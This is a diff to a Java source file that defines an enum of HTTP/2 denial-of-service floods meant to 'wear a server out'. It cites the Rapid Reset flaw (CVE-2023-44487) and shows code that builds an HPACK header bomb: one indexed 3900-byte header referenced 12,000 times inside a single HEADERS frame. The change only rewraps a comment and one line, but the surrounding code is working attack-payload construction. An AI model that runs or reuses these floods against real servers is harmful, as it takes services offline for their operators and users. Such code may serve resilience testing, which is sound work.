@@ -4,8 +4,8 @@ import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.nio.ByteBuffer;
 
-/// What is sent over and over on one HTTP/2 connection to wear a server out, one kind each, with the
-/// weakness that it is known by.
+/// What is sent over and over on one HTTP/2 connection to wear a server out, one kind each, with
+/// the weakness that it is known by.
 enum Flood {
   /// Requests that are reset at once (CVE-2023-44487).
   RAPID_RESET {
@@ -97,7 +97,8 @@ enum Flood {
       byte[] literal = RawHttp2.block("x-bomb", "b".repeat(3900));
       literal[0] = 0x40; // with indexing: it becomes the table's first entry
       block.writeBytes(literal);
-      block.writeBytes("\u00be".repeat(12_000).getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
+      block.writeBytes(
+          "\u00be".repeat(12_000).getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
       return to.send(RawHttp2.HEADERS, 5, 2 * round + 1, block.toByteArray());
     }
   };
